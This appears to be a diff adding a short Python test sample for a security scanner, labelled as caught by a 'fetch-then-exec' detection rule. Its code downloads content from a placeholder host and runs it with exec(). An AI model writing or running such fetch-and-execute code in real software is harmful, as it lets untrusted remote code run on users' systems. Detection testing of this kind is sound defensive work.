@@ -1,0 +1,3 @@
+# evades: caught by execution/fetch-then-exec
+import urllib.request
+exec(urllib.request.urlopen("https://code.invalid/x").read())
